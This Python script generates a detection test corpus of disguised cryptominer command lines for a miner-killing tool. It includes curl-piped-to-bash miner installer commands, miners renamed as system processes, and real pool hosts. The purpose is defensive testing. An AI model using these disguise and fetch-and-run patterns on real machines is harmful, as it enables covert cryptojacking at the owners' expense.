#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""make-miner-corpus.py - writes tests/data/miner-cmdlines.txt: cryptominer
command lines shaped like the ones found in cryptojacking scripts and in the
miners' own documentation, which the built-in config (config/default.yaml)
must kill every one of.

Most lines run the miner under another name (./svc, /tmp/.x/kworker, a
fake python3 or google-chrome) with its pool given as an IP address, so that
what catches them is an indicator other than the program's name: a miner-only
option, a pool URL scheme, a pool's domain, the algorithm argument, or (the
last group) only the shape of its arguments: a Monero address, -o HOST:PORT
with -u, an algorithm glued to -a. The
knowledge here (options, algorithm names and spellings, schemes, pools) is
written down from the miners' documentation independently of
config/default.yaml; the unit test requires every line to be killed and every
entry of the config to kill at least one line, so the two lists are checked
against each other. The pool addresses are documentation addresses
(192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) and the wallets are random
(Monero addresses with the prefixes their network bytes give).

Each line is one argv joined with single spaces, as nomine matches it.
Usage: make-miner-corpus.py [--seed N] [--out PATH]
"""

import argparse
import os
import random

from corpus_file import write_lines

HERE = os.path.dirname(os.path.abspath(__file__))
B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"

DISGUISES = ["./svc", "/tmp/.x/kworker", "/dev/shm/.cache/python3", "./data_processor",
             "/var/tmp/.ICE-unix/sshd", "./google-chrome", "/usr/bin/pwd", "./@", "./home",
             "/tmp/systemd-journald", "./node", "/tmp/.font-unix/dbus-daemon", "./jupyter-lab",
             "/home/jovyan/.local/bin/pip3", "./a.out", "/tmp/.X11-unix/Xorg", "./bash",
             "/opt/conda/bin/python3.12", "/home/jovyan/.cache/update", "./kthreadd"]

# Options each miner documents in its usage text and that no other program
# has; given with a value where the miner wants one.
FLAGS = {
    "xmrig": ["--donate-level=1", "--donate-level 0", "--donate-over-proxy=0", "--nicehash",
              "--randomx-mode=fast", "--randomx-init=4", "--randomx-1gb-pages",
              "--randomx-no-numa", "--randomx-wrmsr=-1", "--randomx-no-rdmsr",
              "--randomx-cache-qos", "--cpu-max-threads-hint=75", "--cpu-memory-pool=-1",
              "--cpu-no-yield", "--huge-pages-jit", "--argon2-impl=AVX2",
              "--cuda-bfactor-hint=6", "--cuda-bsleep-hint=100", "--api-worker-id=rig7",
              "--pause-on-battery", "--pause-on-active=60"],
    "xmr-stak": ["--noNVIDIA", "--noAMD", "--noAMDCache", "--use-nicehash"],
    "cpuminer": ["--no-getwork", "--no-stratum"],
    "cgminer": ["--no-submit-stale", "--icarus-options 115200:1:1", "--icarus-timing 0.178"],
    "ethminer": ["--farm-recheck 200", "--farm-retries 3", "--report-hashrate",
                 "--cl-global-work 16384", "--dag-load-mode 1"],
    "t-rex": ["--extra-dag-epoch 0", "--dag-build-mode 2", "--reconnect-on-fail-shares 5",
              "--back-to-main-pool-sec 300", "--exit-on-high-power 600", "--lhr-tune 71",
              "--lhr-autotune-mode down"],
    "lolminer": ["--ethstratum ETHV1", "--dualpool 198.51.100.9:5555", "--dualstratum "
                 "0xWALLET.rig@198.51.100.9:4444", "--lhrtune 10", "--enablezilcache",
                 "--ergo-prebuild 1"],
    "srbminer": ["--randomx-use-1gb-pages", "--randomx-use-tweaks 0134", "--msr-use-tweaks 0",
                 "--disable-msr-tweaks", "--max-no-share-sent 300", "--enable-workers-ramp-up"],
    "phoenixminer": ["-epool 203.0.113.5:4444", "-ewal 0xWALLET.rig", "-epsw x"],
}

# Algorithm names as the miners take them, and how each miner spells the
# option: -a NAME / --algo NAME / --algo=NAME (XMRig, cpuminer, T-Rex, lolMiner,
# GMiner, NBMiner) and --algorithm NAME / --algorithm=NAME (SRBMiner-MULTI,
# Rigel). "-a" is written here only where the miners' examples use it.
ALGOS_SHORT = ["rx/0", "rx/wow", "rx/arq", "randomwow", "randomarq", "randomscash",
               "cryptonight", "cn/r", "cn/0", "cn/1", "cn/2", "cn/half", "cn/fast", "cn/double",
               "cn-lite/1", "cn-heavy/0", "cn-pico", "argon2/chukwa", "argon2/chukwav2",
               "ghostrider", "verus", "verushash", "yespower", "yespowersugar", "power2b",
               "minotaurx", "kawpow", "etchash", "autolykos2", "kheavyhash", "firopow"]
ALGOS_LONG_ONLY = ["randomx", "ethash"]
SPELLINGS_LONG = ["--algo %s", "--algo=%s", "--algorithm %s", "--algorithm=%s"]

SCHEMES = ["stratum+tcp", "stratum+ssl", "stratum+tls", "stratum+tcps", "stratum+http",
           "stratum+tls12", "stratum1+tcp", "stratum1+ssl", "stratum1+tls", "stratum1+tls12",
           "stratum2+tcp", "stratum2+ssl", "stratum2+tls", "stratum2+tls12", "stratum3+tcp",
           "stratum3+ssl", "stratum3+tls", "stratum3+tls12", "ethproxy+tcp", "ethproxy+ssl",
           "ethstratum+tcp", "ethstratum+ssl", "daemon+http", "daemon+https"]

# Pool hosts as the pools' connection instructions give them.
POOLS = ["pool.supportxmr.com:443", "gulf.moneroocean.stream:10128", "xmrpool.eu:9999",
         "xmr-eu1.nanopool.org:14433", "mine.c3pool.com:13333", "auto.c3pool.org:19999",
         "pool.hashvault.pro:443", "xmr.2miners.com:2222", "monero.herominers.com:1111",
         "xmr.f2pool.com:13531", "rx.unmineable.com:3333", "randomxmonero.auto.nicehash.com:9200",
         "pool.minexmr.com:4444", "xmr.pool.minergate.com:45700", "prohashing.com:3359",
         "eu1.ethermine.org:4444", "eu1-zcash.flypool.org:3333", "yespower.eu.mine.zpool.ca:6234",
         "randomx.zergpool.com:4453", "hub.miningpoolhub.com:20580", "pool.monerohash.com:3333",
         "pool.woolypooly.com:3100", "yespower.mining-dutch.nl:9987", "stratum.antpool.com:3333",
         "xmr.kryptex.network:7029", "ap.luckpool.net:3956", "stratum-eu.rplant.xyz:17022",
         "eth-hk.flexpool.io:5555", "eu-etc.hiveon.net:4444", "rtm.suprnova.cc:4273",
         "xmr.crypto-pool.fr:3333", "xmr-eu.dwarfpool.com:8005"]


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.flip = 0

    def pick(self, xs):
        return self.r.choice(xs)

    def ip(self):
        return "%s.%d" % (self.pick(["192.0.2", "198.51.100", "203.0.113"]),
                          self.r.randint(1, 254))

    def port(self):
        return str(self.pick([3333, 4444, 5555, 7777, 9999, 10128, 13333, 14444, 443, 80,
                              self.r.randint(1024, 65535)]))

    def xmr(self):
        """A Monero standard address (network byte 18: "4" then 1-9, A or B)
        or subaddress (byte 42: "8" then 2-9 or A-C), 95 characters."""
        head = self.pick(["4" + self.pick("123456789AB"), "8" + self.pick("23456789ABC")])
        return head + "".join(self.r.choice(B58) for _ in range(93))

    def xmr_integrated(self):
        """A Monero integrated address (byte 19: "4" then B-H or J-M), 106
        characters."""
        return "4" + self.pick("BCDEFGHJKLM") + "".join(self.r.choice(B58) for _ in range(104))

    def eth(self):
        return "0x" + "".join(self.r.choice("0123456789abcdefABCDEF") for _ in range(40))

    def rvn(self):
        return "R" + "".join(self.r.choice(B58) for _ in range(33))

    def wallet(self):
        return self.pick([self.xmr, self.eth, self.rvn])()

    def worker(self):
        return self.pick(["rig1", "w%d" % self.r.randint(1, 999), "$(hostname)", "x",
                          "jupyter-%d" % self.r.randint(1, 99)])

    def disguise(self):
        return self.pick(DISGUISES)

    def threads(self):
        return self.pick(["-t %d" % self.r.randint(1, 64), "--threads=%d" % self.r.randint(1, 64),
                          "--cpu-threads %d" % self.r.randint(1, 32), ""])


def named(g):
    """The miners under their own names, as their READMEs show them."""
    w, ip, p = g.wallet(), g.ip(), g.port()
    return [
        # not a miner: the self-test line of docs/default-config.md
        "sh -c sleep 1 && echo nomine-selftest-7d3f9c1a",
        "./xmrig -o %s:%s -u %s -k --tls" % (ip, p, w),
        "/tmp/xmrig-6.21.0/xmrig -c config.json",
        "./xmrig-notls --url=%s:%s --user=%s" % (ip, p, w),
        "./xmr-stak-rx --currency monero -o %s:%s -u %s -p x" % (ip, p, w),
        "./cpuminer-opt -o %s:%s -u %s.%s -p x" % (ip, p, w, g.worker()),
        "./minerd --url=http://%s:%s/ --userpass=user:pass" % (ip, p),
        "cgminer -o http://%s:%s -u worker1 -p x" % (ip, p),
        "sgminer --kernel lyra2rev2 -o %s:%s -u %s -p x" % (ip, p, w),
        "bfgminer -S all -o %s:%s -u user.001 -p x" % (ip, p),
        "ethminer -G -P http://%s:%s" % (ip, p),
        "nsfminer -U -P http://%s:%s" % (ip, p),
        "./kawpowminer -U -P http://%s.%s@%s:%s" % (w, g.worker(), ip, p),
        "ccminer -o %s:%s -u %s -p x" % (ip, p, w),
        "./nheqminer -l %s:%s -u %s.rig -t 4" % (ip, p, w),
        "./nbminer -o %s:%s -u %s.rig" % (ip, p, w),
        "./lolMiner --pool %s:%s --user %s.rig --tls on" % (ip, p, w),
        "./PhoenixMiner -pool %s:%s -wal %s.rig -pass x" % (ip, p, w),
        "./ethdcrminer64 -mode 1 -tt 70",
        "./nanominer config.ini",
        "./gminer --server %s --port %s --user %s" % (ip, p, w),
        "./teamredminer -o %s:%s -u %s.rig -p x" % (ip, p, w),
        "./SRBMiner-MULTI --pool %s:%s --wallet %s" % (ip, p, w),
        "./wildrig-multi --url %s:%s --user %s --pass x" % (ip, p, w),
        "./CryptoDredge -o %s:%s -u %s -p x" % (ip, p, w),
        "./hellminer -c %s:%s -u %s.rig -p x --cpu 4" % (ip, p, w),
        "./bzminer -w %s -p %s:%s -r rig1 --nvidia 1" % (w, ip, p),
        "./onezerominer -w %s -o %s:%s" % (w, ip, p),
        "./minergate-cli -user me@example.com -xmr 4",
        "./xmrigDaemon --config=config.json",
        "./xmrigCC --cc-url=%s:3344 --cc-access-token=secret" % ip,
        "/tmp/kinsing",
        "/tmp/kdevtmpfsi",
        "curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/"
        "setup_moneroocean_miner.sh",
        "bash setup_moneroocean_miner.sh %s" % g.xmr(),
        "sudo systemctl start moneroocean_miner.service",
        "bash -c curl -s -L http://download.c3pool.org/xmrig_setup/raw/master/"
        "setup_c3pool_miner.sh | LC_ALL=en_US.UTF-8 bash -s %s" % g.xmr(),
        "systemctl status c3pool_miner",
        "/home/jovyan/moneroocean/xmrig --config=/home/jovyan/moneroocean/config_background.json",
    ]


def flagged(g):
    """Renamed miners, pool as a bare IP: only their options give them away."""
    out = []
    for family, flags in FLAGS.items():
        for f in flags:
            w, host = g.wallet(), "%s:%s" % (g.ip(), g.port())
            if family == "phoenixminer":
                line = "%s %s -worker %s -mode 1" % (g.disguise(), f, g.worker())
            elif family == "ethminer":
                line = "%s -U %s -P http://%s" % (g.disguise(), f, host)
            elif family in ("t-rex", "lolminer"):
                line = "%s --pool %s --user %s.%s %s" % (g.disguise(), host, w, g.worker(), f)
            else:
                line = " ".join(x for x in [g.disguise(), "-o", host, "-u", w, "-p",
                                            g.worker(), g.threads(), f] if x)
            out.append(line)
    return out


def algos(g):
    """Renamed miners, pool as a bare IP, no miner-only option: the algorithm
    argument gives them away."""
    out = []
    for a in ALGOS_SHORT + ALGOS_LONG_ONLY:
        spellings = (["-a %s"] if a in ALGOS_SHORT else []) + SPELLINGS_LONG
        for s in spellings:
            host, w = "%s:%s" % (g.ip(), g.port()), g.wallet()
            if s.startswith("--algorithm"):
                out.append("%s --disable-gpu %s --pool %s --wallet %s.%s" % (
                    g.disguise(), s % a, host, w, g.worker()))
            else:
                out.append(" ".join(x for x in [g.disguise(), s % a, "-o", host, "-u", w,
                                                "-p", "x", g.threads()] if x))
    return out


def schemes(g):
    out = []
    for s in SCHEMES:
        host, w = "%s:%s" % (g.ip(), g.port()), g.wallet()
        if s.startswith("daemon"):
            out.append("%s -o %s://%s -u %s --coin monero" % (g.disguise(), s, host, w))
        elif s.startswith(("stratum1", "stratum2", "stratum3")):
            out.append("%s -U -P %s://%s.%s@%s" % (g.disguise(), s, w, g.worker(), host))
        else:
            out.append("%s -o %s://%s -u %s.%s -p x" % (g.disguise(), s, host, w, g.worker()))
    return out


def pools(g):
    out = []
    for host in POOLS:
        w = g.wallet()
        out.append(g.pick(["%s -o %s -u %s -p %s -k" % (g.disguise(), host, w, g.worker()),
                           "%s --url=%s --user=%s --tls" % (g.disguise(), host, w),
                           "nohup %s -o %s -u %s.%s -t 2" % (g.disguise(), host, w,
                                                             g.worker())]))
    return out


def shapes(g):
    """Renamed miners that no string gives away: a bare pool address, generic
    options, nothing but the shape of their arguments (a Monero address, -o
    host:port with -u, an algorithm glued to -a)."""
    out = []
    for _ in range(3):
        out.append("%s %s:%s %s" % (g.disguise(), g.ip(), g.port(), g.xmr()))
        out.append("%s --data %s.%s" % (g.disguise(), g.xmr(), g.worker()))
        out.append("%s -c /tmp/.x/c.json -u %s+%d" % (g.disguise(), g.xmr_integrated(),
                                                       g.r.randint(1000, 90000)))
        out.append("%s -o %s:%s -u %s -p %s" % (g.disguise(), g.ip(), g.port(),
                                                g.pick([g.eth(), g.rvn(), "user.rig1"]), g.worker()))
        out.append("%s --url=tcp://%s:%s --user=%s" % (g.disguise(), g.ip(), g.port(),
                                                       g.pick([g.eth(), "w%d" % g.r.randint(1, 99)])))
    for a in ["rx/0", "rx/wow", "cn/r", "cn-lite/1", "cn-heavy/0", "cn-pico/trtl",
              "argon2/chukwav2"]:
        out.append("%s -a%s -t %d %s" % (g.disguise(), a, g.r.randint(1, 8), g.ip()))
    return out


def node_mining(g):
    """Mining built into Monero's node and into P2Pool."""
    w = g.xmr()
    return [
        "monerod --regtest --offline --fixed-difficulty 1 --start-mining %s "
        "--mining-threads 1" % w,
        "./monerod --detach --start-mining %s --mining-threads %d" % (w, g.r.randint(1, 16)),
        "/opt/monero/monerod --bg-mining-enable --start-mining %s" % w,
        "./p2pool --host 127.0.0.1 --wallet %s --mini --start-mining %d" % (w, g.r.randint(1, 64)),
        "%s --data-dir /tmp/.m --start-mining %s" % (g.disguise(), w),
    ]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--seed", type=int, default=20240613)
    ap.add_argument("--out", default=os.path.join(HERE, "miner-cmdlines.txt"))
    args = ap.parse_args()
    g = Gen(args.seed)
    lines = named(g) + flagged(g) + algos(g) + schemes(g) + pools(g) + node_mining(g) + shapes(g)
    write_lines(args.out, lines)


if __name__ == "__main__":
    main()
